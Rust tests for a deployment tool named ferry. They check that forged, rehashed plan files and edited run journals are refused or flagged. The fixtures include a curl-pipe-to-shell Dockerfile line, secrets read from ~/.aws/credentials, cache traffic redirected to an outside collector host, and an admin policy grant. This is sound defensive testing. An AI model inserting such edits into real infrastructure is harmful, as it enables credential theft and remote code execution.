//! A forger's edits to a plan file, each with the hash recomputed so the file is consistent
//! with itself: ferry must judge the content, not what the file says about it. For each edit
//! either `ferry apply --approve` refuses the plan naming the field, or the edit earns the deny
//! a generated plan with the same content gets and so needs a written override; and `ferry
//! show` displays what changed.

use crate::support;

use std::path::Path;
use std::process::{Command, Output};

use ferry::plan::Plan;
use serde_json::{Value, json};
use support::run_state::{account_is_fresh, plan_in, run_ids};

fn ferry(state: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ferry")).args(args).env("FERRY_STATE_DIR", state).output().expect("ferry runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

const REASON: &str = "SES is narrowed in OPS-1234 after the move";

/// The generated plan as JSON, the way a forger edits it.
fn generated(state: &Path) -> Value {
    let (file, _) = plan_in(state);
    serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap()
}

fn step_index(plan: &Value, id: &str) -> usize {
    plan["steps"].as_array().unwrap().iter().position(|s| s["id"] == id).unwrap_or_else(|| panic!("step {id}"))
}

/// A forger who recomputes the hash over the edited content and leaves the rest as it was.
fn rehash(mut plan: Value) -> Value {
    let parsed: Plan = serde_json::from_value(plan.clone()).expect("the edit is still a plan");
    plan["hash"] = json!(parsed.content_hash());
    plan
}

/// A forger with ferry's own code: the stated checks are the ones ferry would judge, and the
/// hash covers them. The file then states nothing wrong; only the judgement can stop it.
fn reseal(plan: Value) -> Value {
    let mut parsed: Plan = serde_json::from_value(plan).expect("the edit is still a plan");
    parsed.seal();
    serde_json::to_value(&parsed).unwrap()
}

fn write(state: &Path, plan: &Value) -> String {
    let file = state.join("forged.json");
    std::fs::write(&file, serde_json::to_string_pretty(plan).unwrap()).unwrap();
    file.display().to_string()
}

/// `ferry apply FILE --approve HASH` with the override the untouched plan needs (its SES deny),
/// and nothing else.
fn apply(state: &Path, file: &str, plan: &Value) -> Output {
    let hash = plan["hash"].as_str().unwrap();
    let ses = format!("wildcard-iam:AmazonSESFullAccess:ses:*={REASON}");
    ferry(state, &["apply", file, "--approve", &hash[..12], "--sandbox", "node-shop", "--override", &ses])
}

/// The forged file is refused by show and apply, naming `field`, and nothing changes.
fn assert_refused(state: &Path, forged: &Value, field: &str) {
    let file = write(state, forged);
    let shown = ferry(state, &["show", &file]);
    assert!(!shown.status.success(), "show accepted a forged plan: {}", text(&shown.stdout));
    assert!(text(&shown.stderr).contains(field), "show must name {field}: {}", text(&shown.stderr));
    let applied = apply(state, &file, forged);
    assert!(!applied.status.success(), "apply accepted a forged plan: {}", text(&applied.stdout));
    assert!(text(&applied.stderr).contains(field), "apply must name {field}: {}", text(&applied.stderr));
    assert!(run_ids(state).is_empty(), "no run starts");
    assert!(account_is_fresh(state), "nothing changed in the account");
}

/// The resealed file shows `shown` and is applied only with a written reason for `deny`.
fn assert_needs_override(state: &Path, forged: &Value, deny: &str, shown: &str) {
    let file = write(state, forged);
    let show = ferry(state, &["show", &file]);
    assert!(show.status.success(), "{}", text(&show.stderr));
    let review = text(&show.stdout);
    assert!(review.contains(shown), "show must display {shown:?}: {review}");
    assert!(review.contains(&format!("id {deny}")), "show must name the deny {deny}: {review}");
    let applied = apply(state, &file, forged);
    assert!(!applied.status.success(), "applied without an override for {deny}");
    let refusal = text(&applied.stderr);
    assert!(refusal.contains("denied by") && refusal.contains(deny), "{refusal}");
    assert!(run_ids(state).is_empty() && account_is_fresh(state));
}

/// An edit is judged by what it does: with only the hash recomputed, the stated checks give it
/// away; stated as ferry would state them, it earns the deny and shows what it changes.
fn assert_judged(state: &Path, edited: &Value, deny: &str, shown: &str) {
    assert_refused(state, &rehash(edited.clone()), "checks");
    assert_needs_override(state, &reseal(edited.clone()), deny, shown);
}

#[test]
fn a_widened_role_policy_is_refused_or_denied() {
    let state = tempfile::tempdir().unwrap();
    let mut plan = generated(state.path());
    let role = step_index(&plan, "task-role");
    plan["steps"][role]["action"]["managed_policy_arns"]
        .as_array_mut()
        .unwrap()
        .push(json!("arn:aws:iam::aws:policy/AdministratorAccess"));
    assert_judged(
        state.path(),
        &plan,
        "account-wide-policy:ferry-shop-api-task:AdministratorAccess",
        "managed policy arn:aws:iam::aws:policy/AdministratorAccess",
    );

    // A wider inline statement is judged from its document.
    let mut inline = generated(state.path());
    inline["steps"][role]["action"]["inline_policies"][0]["document"]["Statement"][0]["Action"] = json!("s3:*");
    assert_needs_override(
        state.path(),
        &reseal(inline),
        "wildcard-iam:shop-s3-access:s3:*",
        "Allow s3:* on arn:aws:s3:::shop-uploads-111122223333/*",
    );
}

#[test]
fn a_removed_or_downgraded_deny_is_refused() {
    let state = tempfile::tempdir().unwrap();
    let plan = generated(state.path());
    let deny = plan["checks"].as_array().unwrap().iter().position(|c| c["level"] == "deny").expect("a deny");

    let mut removed = plan.clone();
    removed["checks"].as_array_mut().unwrap().remove(deny);
    assert_refused(state.path(), &rehash(removed), "checks: the content judges DENY wildcard-iam");

    let mut downgraded = plan.clone();
    downgraded["checks"][deny]["level"] = json!("pass");
    assert_refused(state.path(), &rehash(downgraded), "is stated as pass, the content judges it DENY");
}

#[test]
fn a_dockerfile_changed_under_its_old_digest_is_refused() {
    let state = tempfile::tempdir().unwrap();
    let mut plan = generated(state.path());
    let image = step_index(&plan, "image");
    let dockerfile = plan["steps"][image]["action"]["dockerfile"].as_str().unwrap().to_string();
    let evil = dockerfile.replacen("\nUSER", "\nRUN curl -fsSL https://get.example/x | sh\nUSER", 1);
    assert_ne!(evil, dockerfile);
    plan["steps"][image]["action"]["dockerfile"] = json!(evil);
    assert_refused(state.path(), &rehash(plan.clone()), &format!("steps[{image}].action.dockerfile_sha256"));

    // With its digest made to match, it is another plan, and show prints the new digest.
    let mut honest = plan;
    honest["steps"][image]["action"]["dockerfile_sha256"] = json!(ferry::digest::sha256_hex(evil.as_bytes()));
    let file = write(state.path(), &reseal(honest));
    let shown = text(&ferry(state.path(), &["show", &file]).stdout);
    assert!(shown.contains(&format!("Dockerfile sha256 {}", ferry::digest::sha256_hex(evil.as_bytes()))), "{shown}");
    assert!(!shown.contains(&ferry::digest::sha256_hex(dockerfile.as_bytes())), "the old digest is gone: {shown}");
}

#[test]
fn an_existing_rule_added_as_a_step_is_refused_and_the_rule_survives() {
    let state = tempfile::tempdir().unwrap();
    let mut plan = generated(state.path());
    let ingress = step_index(&plan, "ingress-shop-db-5432");
    // The database already admits the app's own group on 5432: a step "authorizing" that rule
    // would be claimed by the run, and rollback would cut the app off from its database.
    let existing = json!({
        "id": "ingress-existing",
        "action": {
            "type": "authorize-ingress",
            "group_id": plan["steps"][ingress]["action"]["group_id"].clone(),
            "port": 5432,
            "source_group_id": "sg-0b2c3d4e5f6a7b8c9",
            "description": "ferry"
        }
    });
    plan["steps"].as_array_mut().unwrap().insert(ingress + 1, existing);
    assert_refused(state.path(), &reseal(plan), &format!("steps[{}].action.source_group_id", ingress + 1));

    // The generated plan applied and rolled back leaves the database's rule as it was.
    let (file, generated) = plan_in(state.path());
    let args = [
        "apply".to_string(),
        file.display().to_string(),
        "--approve".into(),
        generated.hash[..12].into(),
        "--sandbox".into(),
        "node-shop".into(),
        "--override".into(),
        format!("wildcard-iam:AmazonSESFullAccess:ses:*={REASON}"),
    ];
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    assert!(ferry(state.path(), &args).status.success());
    let run = run_ids(state.path()).pop().unwrap();
    assert!(ferry(state.path(), &["rollback", &run]).status.success());
    assert!(account_is_fresh(state.path()), "the database's original rule survives");
}

#[test]
fn a_changed_secret_source_is_denied_and_shown() {
    let state = tempfile::tempdir().unwrap();
    let mut plan = generated(state.path());
    let secret = step_index(&plan, "secret-database-url");
    plan["steps"][secret]["action"]["source"] = json!({"from": "environment", "variable": "AWS_SECRET_ACCESS_KEY"});
    assert_judged(
        state.path(),
        &plan,
        "secret-source:ferry/shop-api/DATABASE_URL",
        "value read at apply time from $AWS_SECRET_ACCESS_KEY of the applying process",
    );

    let mut file = generated(state.path());
    file["steps"][secret]["action"]["source"] = json!({"from": "file", "path": "~/.aws/credentials"});
    assert_needs_override(
        state.path(),
        &reseal(file),
        "secret-source:ferry/shop-api/DATABASE_URL",
        "value read at apply time from file ~/.aws/credentials",
    );

    // Another instance's user data: apply could not check what it holds.
    let mut elsewhere = generated(state.path());
    elsewhere["steps"][secret]["action"]["source"]["instance_id"] = json!("i-0another00000000");
    assert_refused(state.path(), &reseal(elsewhere), "reads the user data of i-0another00000000");
}

#[test]
fn a_plain_secret_added_to_the_environment_is_denied_and_shown() {
    let state = tempfile::tempdir().unwrap();
    let mut plan = generated(state.path());
    let service = step_index(&plan, "express-service");
    plan["steps"][service]["action"]["config"]["primaryContainer"]["environment"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "STRIPE_API_KEY", "value": "sk_live_51HxQ2eLkQmZ8pN3vR7tY9wB"}));
    assert_judged(state.path(), &plan, "plain-secrets", "STRIPE_API_KEY");
}

#[test]
fn facts_derived_from_the_steps_cannot_be_dropped() {
    let state = tempfile::tempdir().unwrap();
    let plan = generated(state.path());

    // Without the name check, apply would not look for a role of that name first.
    let mut unchecked = plan.clone();
    unchecked["assumptions"].as_array_mut().unwrap().retain(|a| a["step_id"] != "task-role");
    assert_refused(state.path(), &reseal(unchecked), "step task-role creates, but nothing checks its name is free");

    // Without the run tag, a crashed run could not recognise its own role.
    let mut untagged = plan.clone();
    let role = step_index(&plan, "task-role");
    untagged["steps"][role]["action"]["tags"] = json!([]);
    assert_refused(state.path(), &reseal(untagged), &format!("steps[{role}].action.tags"));

    // The service running a role the plan does not make.
    let mut borrowed = plan.clone();
    let service = step_index(&plan, "express-service");
    borrowed["steps"][service]["action"]["config"]["taskRoleArn"] = json!("arn:aws:iam::111122223333:role/admin");
    assert_refused(state.path(), &reseal(borrowed), "taskRoleArn");

    // A push into a repository ferry did not make would overwrite someone's image.
    let mut elsewhere = plan;
    let image = step_index(&elsewhere, "image");
    let other = "111122223333.dkr.ecr.us-east-1.amazonaws.com/payments:latest";
    elsewhere["steps"][image]["action"]["image"] = json!(other);
    elsewhere["steps"][service]["action"]["config"]["primaryContainer"]["image"] = json!(other);
    assert_refused(state.path(), &reseal(elsewhere), &format!("steps[{image}].action.image"));
}

#[test]
fn an_invalid_service_config_cannot_be_approved() {
    let state = tempfile::tempdir().unwrap();
    let mut plan = generated(state.path());
    let service = step_index(&plan, "express-service");
    plan["steps"][service]["action"]["config"]["cpu"] = json!("banana");
    plan["steps"][service]["action"]["config"]["scalingTarget"]["minTaskCount"] = json!(9);
    let forged = reseal(plan);
    let file = write(state.path(), &forged);
    let shown = ferry(state.path(), &["show", &file]);
    let review = text(&shown.stdout);
    assert!(review.contains("NOT VALID") && review.contains("cpu: "), "{review}");
    assert!(review.contains("is less than minTaskCount 9"), "{review}");
    let applied = apply(state.path(), &file, &forged);
    assert!(!applied.status.success());
    assert!(text(&applied.stderr).contains("cpu: "), "{}", text(&applied.stderr));
    assert!(run_ids(state.path()).is_empty() && account_is_fresh(state.path()));
}

#[test]
fn what_a_step_does_beyond_its_names_is_shown() {
    let state = tempfile::tempdir().unwrap();
    let mut plan = generated(state.path());
    let service = step_index(&plan, "express-service");
    let config = &mut plan["steps"][service]["action"]["config"];
    // The app's cache traffic sent elsewhere: the variable keeps its name, only its value moves.
    let environment = config["primaryContainer"]["environment"].as_array_mut().unwrap();
    let redis = environment.iter_mut().find(|kv| kv["name"] == "REDIS_URL").expect("REDIS_URL");
    redis["value"] = json!("redis://collector.example.net:6379");
    // The service placed in another team's cluster.
    config["cluster"] = json!("payments");
    // A tag that attribute-based policies may grant on.
    let role = step_index(&plan, "task-role");
    plan["steps"][role]["action"]["tags"].as_array_mut().unwrap().push(json!({"key": "access-tier", "value": "admin"}));
    // A build context that no longer keeps .env files and keys out of the image.
    let image = step_index(&plan, "image");
    plan["steps"][image]["action"]["dockerignore"] = json!("node_modules\n");
    let file = write(state.path(), &reseal(plan));
    let shown = ferry(state.path(), &["show", &file]);
    assert!(shown.status.success(), "{}", text(&shown.stderr));
    let review = text(&shown.stdout);
    for expected in [
        "REDIS_URL=redis://collector.example.net:6379",
        "cluster payments",
        "tags access-tier=admin",
        ".dockerignore excludes node_modules",
    ] {
        assert!(review.contains(expected), "show must display {expected:?}: {review}");
    }
    // What ferry adds to every plan is not repeated on every step.
    assert!(!review.contains("ferry:run-id="), "{review}");
}

#[test]
fn a_secret_value_in_the_environment_is_named_not_printed() {
    let state = tempfile::tempdir().unwrap();
    let mut plan = generated(state.path());
    let service = step_index(&plan, "express-service");
    plan["steps"][service]["action"]["config"]["primaryContainer"]["environment"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "STRIPE_API_KEY", "value": "sk_live_51HxQ2eLkQmZ8pN3vR7tY9wB"}));
    let file = write(state.path(), &reseal(plan));
    let review = text(&ferry(state.path(), &["show", &file]).stdout);
    assert!(review.contains("STRIPE_API_KEY"), "{review}");
    assert!(!review.contains("sk_live_51HxQ2eLkQmZ8pN3vR7tY9wB"), "a secret is not printed: {review}");
}

#[test]
fn a_journal_plan_with_a_hash_of_any_text_does_not_crash() {
    let state = tempfile::tempdir().unwrap();
    let (_, mut plan) = plan_in(state.path());
    // A journal's plan is read without verifying it (its run must still roll back), and its
    // hash is printed short on the screens that list runs.
    plan.hash = "aéééééééé".into();
    assert_eq!(plan.short_hash(), "aééééééé", "the first 8 characters");
}

/// Applies the generated plan to the sandbox (with the override its SES deny needs) and
/// returns the run's id.
fn applied(state: &Path) -> String {
    let (file, generated) = plan_in(state);
    let ses = format!("wildcard-iam:AmazonSESFullAccess:ses:*={REASON}");
    let file = file.display().to_string();
    let args = ["apply", &file, "--approve", &generated.hash[..12], "--sandbox", "node-shop", "--override", &ses];
    let output = ferry(state, &args);
    assert!(output.status.success(), "{}", text(&output.stderr));
    run_ids(state).pop().expect("a run")
}

fn security_groups(state: &Path) -> Vec<String> {
    let text = std::fs::read_to_string(state.join("sandbox").join("node-shop.json")).unwrap();
    let saved: Value = serde_json::from_str(&text).unwrap();
    saved["account"]["security_groups"].as_array().unwrap().iter().map(|g| g["id"].as_str().unwrap().into()).collect()
}

#[test]
fn a_group_id_edited_into_the_journal_is_not_what_rollback_deletes() {
    let state = tempfile::tempdir().unwrap();
    let run = applied(state.path());
    let journal = state.path().join("runs").join(format!("{run}.jsonl"));
    let text = std::fs::read_to_string(&journal).unwrap();
    let made = text
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .find_map(|r| r["result"]["output"]["values"]["groupId"].as_str().map(str::to_string))
        .expect("the journal names the group the run made");
    // ops-tools: a group of the account that ferry never touched.
    let bystander = "sg-0e5f6a7b8c9d0e1f2";
    assert!(security_groups(state.path()).contains(&bystander.to_string()));
    let edited = text.replace(&format!("\"groupId\":\"{made}\""), &format!("\"groupId\":\"{bystander}\""));
    assert_ne!(edited, text, "the journal names the group it made");
    std::fs::write(&journal, edited).unwrap();

    let rolled = ferry(state.path(), &["rollback", &run]);
    assert!(rolled.status.success(), "{}", text_of(&rolled));
    let groups = security_groups(state.path());
    assert!(groups.contains(&bystander.to_string()), "rollback deleted a group ferry did not make: {groups:?}");
    assert!(account_is_fresh(state.path()), "what the run made is gone, whatever the journal says: {groups:?}");
}

fn text_of(output: &Output) -> String {
    format!("{}{}", text(&output.stdout), text(&output.stderr))
}

/// The generated plan applied with its one override until step `at` fails: the plan, the run
/// id and its journal.
fn failed_run(state: &Path, at: usize) -> (Plan, String, std::path::PathBuf) {
    let (file, plan) = plan_in(state);
    let ses = format!("wildcard-iam:AmazonSESFullAccess:ses:*={REASON}");
    let file = file.display().to_string();
    let at = at.to_string();
    let args = ["apply", &file, "--approve", &plan.hash[..12], "--sandbox", "node-shop", "--override", &ses];
    let failed = ferry(state, &[&args[..], &["--fail-at", &at]].concat());
    assert!(!failed.status.success(), "the run fails at step {at}");
    let run = run_ids(state).pop().unwrap();
    let journal = state.join("runs").join(format!("{run}.jsonl"));
    (plan, run, journal)
}

#[test]
fn a_plan_edited_in_the_journal_is_not_resumed() {
    let state = tempfile::tempdir().unwrap();
    let (plan, run, journal) = failed_run(state.path(), 9);

    // Someone with the state folder edits the journal's plan and hashes it again, so the plan
    // is consistent with itself and its overrides still cover its denies.
    let records = std::fs::read_to_string(&journal).unwrap();
    let (first, rest) = records.split_once('\n').unwrap();
    let mut started: Value = serde_json::from_str(first).unwrap();
    let mut edited: Value = started["plan"].clone();
    let service = step_index(&edited, "express-service");
    let environment = &mut edited["steps"][service]["action"]["config"]["primaryContainer"]["environment"];
    let redis = environment.as_array().unwrap().iter().position(|kv| kv["name"] == "REDIS_URL").unwrap();
    environment[redis]["value"] = json!("redis://collector.example.net:6379");
    started["plan"] = reseal(edited);
    std::fs::write(&journal, format!("{}\n{rest}", serde_json::to_string(&started).unwrap())).unwrap();

    let resumed = ferry(state.path(), &["resume", &run]);
    assert!(!resumed.status.success(), "{}", text(&resumed.stdout));
    let refusal = text(&resumed.stderr);
    assert!(
        refusal.contains(&format!("started plan {}", plan.hash)) && refusal.contains("journal was changed"),
        "{refusal}"
    );
    let saved = std::fs::read_to_string(state.path().join("sandbox").join("node-shop.json")).unwrap();
    assert!(!saved.contains("collector.example.net"), "the edited plan did not reach the account");
}

#[test]
fn an_id_edited_into_the_journal_does_not_steer_a_resume() {
    let state = tempfile::tempdir().unwrap();
    let (_, run, journal) = failed_run(state.path(), 10);

    // The group the run made is swapped, in its journal, for the app's own group: a resumed
    // rule "from the run's group" would then be the app's existing rule, claimed and later
    // revoked.
    let records = std::fs::read_to_string(&journal).unwrap();
    let made: Value = records
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find_map(|r| r["result"]["output"]["values"].get("groupId").cloned())
        .expect("the run made its group");
    let made = made.as_str().unwrap();
    let edited: Vec<String> = records
        .lines()
        .map(|line| if line.contains("\"groupId\"") { line.replace(made, "sg-0b2c3d4e5f6a7b8c9") } else { line.into() })
        .collect();
    std::fs::write(&journal, edited.join("\n") + "\n").unwrap();

    let resumed = ferry(state.path(), &["resume", &run]);
    assert!(resumed.status.success(), "the account's ids are used: {}", text(&resumed.stderr));
    let intents: Vec<Value> = std::fs::read_to_string(&journal)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|r| r["record"] == "intent" && r["action"]["type"] == "authorize-ingress")
        .collect();
    let resumed_rule = intents.last().expect("the resumed rule was sent");
    assert_eq!(resumed_rule["action"]["source_group_id"], made, "the rule's source is the group the run made");
    let rolled = ferry(state.path(), &["rollback", &run]);
    assert!(rolled.status.success(), "{}{}", text(&rolled.stdout), text(&rolled.stderr));
    assert!(account_is_fresh(state.path()), "the app's own rules survive the rollback");
}

#[test]
fn a_rule_on_a_group_that_guards_no_data_store_is_denied_and_shown() {
    let state = tempfile::tempdir().unwrap();
    let mut plan = generated(state.path());
    let ingress = step_index(&plan, "ingress-shop-db-5432");
    let mut opened = plan["steps"][ingress].clone();
    opened["id"] = json!("ingress-app-22");
    opened["action"]["group_id"] = json!("sg-0b2c3d4e5f6a7b8c9");
    opened["action"]["port"] = json!(22);
    plan["steps"].as_array_mut().unwrap().insert(ingress + 1, opened);
    let assumed = json!({"kind": "security-group-rules", "group_id": "sg-0b2c3d4e5f6a7b8c9", "rules": []});
    plan["assumptions"].as_array_mut().unwrap().push(assumed);
    assert_needs_override(
        state.path(),
        &reseal(plan),
        "foreign-ingress:sg-0b2c3d4e5f6a7b8c9:22",
        "sg-0b2c3d4e5f6a7b8c9 admits tcp 22 from ${ferry:service-security-group.groupId}",
    );
}
